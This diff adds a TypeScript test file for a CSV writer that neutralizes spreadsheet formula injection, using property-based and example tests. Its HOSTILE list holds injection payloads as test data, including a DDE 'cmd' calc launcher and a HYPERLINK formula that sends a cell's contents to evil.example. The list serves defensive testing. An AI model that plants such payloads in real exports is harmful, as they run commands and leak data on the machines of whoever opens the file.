@@ -1,0 +1,115 @@
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { Readable } from 'node:stream';
+import { neutralizeFormulas, safeCsvStringifier } from './safe-csv';
+
+async function csvOf(records: string[][]): Promise<string> {
+  const csv = safeCsvStringifier();
+  Readable.from(records).pipe(csv);
+  let text = '';
+  for await (const chunk of csv) text += String(chunk);
+  return text;
+}
+
+/** A cell a spreadsheet would run: a formula lead after any spaces and quotes. */
+const RUNS_AS_FORMULA = /^[ "]*[=+\-@\t\r＝＋－＠]/;
+
+/**
+ * Every cell of `text` as the crudest reader splitting on `separator` sees it: quotes
+ * ignored, so every separator starts a cell. A reader that honours quotes starts cells at
+ * a subset of these places, with the opening quote removed (RUNS_AS_FORMULA skips it).
+ */
+function cellsAsSplitBy(text: string, separator: ',' | ';' | '\t'): string[] {
+  return text.split(/[\r\n]+/).flatMap((line) => line.split(separator));
+}
+
+const HOSTILE = [
+  "Москва;=cmd|' /C calc'!A0;",
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+  'Хэйхэ,=1+1',
+  'a;b;"=1+1"',
+  'a; =1+1',
+  'a;"  @x',
+  '黑河\n=1+1',
+  'tab\t=1+1',
+  '＝1＋1',
+  'ok;＠x',
+];
+
+describe('safe CSV', () => {
+  it.each(HOSTILE)('%j never starts a cell with a formula, split by , ; or tab', async (value) => {
+    const text = await csvOf([['1', value, 'tail']]);
+    for (const separator of [',', ';', '\t'] as const) {
+      const running = cellsAsSplitBy(text, separator).filter((cell) => RUNS_AS_FORMULA.test(cell));
+      expect({ separator, running }).toEqual({ separator, running: [] });
+    }
+  });
+
+  it('quotes every cell with a separator, quote, line break or formula lead anywhere', async () => {
+    const text = await csvOf([['a;b', 'a,b', 'say "hi"', 'two\nlines', 'x=y', 'x-y', 'plain']]);
+    expect(text).toBe('"a;b","a,b","say ""hi""","two\nlines","x=y","x-y",plain\r\n');
+  });
+
+  it('reads back as written by an RFC 4180 reader, changed only where a formula could start', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(
+          fc.array(
+            fc.string({
+              unit: fc.constantFrom(
+                'a',
+                'я',
+                '黑',
+                ' ',
+                ',',
+                ';',
+                '"',
+                "'",
+                '\n',
+                '\r',
+                '\t',
+                '=',
+                '+',
+                '-',
+                '@',
+                '＝',
+              ),
+            }),
+            {
+              minLength: 1,
+              maxLength: 4,
+            },
+          ),
+          { minLength: 1, maxLength: 4 },
+        ),
+        async (records) => {
+          const text = await csvOf(records);
+          const back: string[][] = parse(text, {
+            delimiter: ',',
+            record_delimiter: '\r\n',
+            relax_column_count: true,
+          });
+          expect(back).toEqual(records.map((record) => record.map(neutralizeFormulas)));
+          for (const separator of [',', ';', '\t'] as const) {
+            expect(
+              cellsAsSplitBy(text, separator).filter((cell) => RUNS_AS_FORMULA.test(cell)),
+            ).toEqual([]);
+          }
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+
+  it('leaves ordinary values alone', () => {
+    for (const value of ['李雨轩', 'Ли Юйсюань', 'E12345678', '2011-03-04', 'Благовещенск']) {
+      expect(neutralizeFormulas(value)).toBe(value);
+    }
+    expect(neutralizeFormulas('Москва;=cmd')).toBe("Москва;'=cmd");
+  });
+});
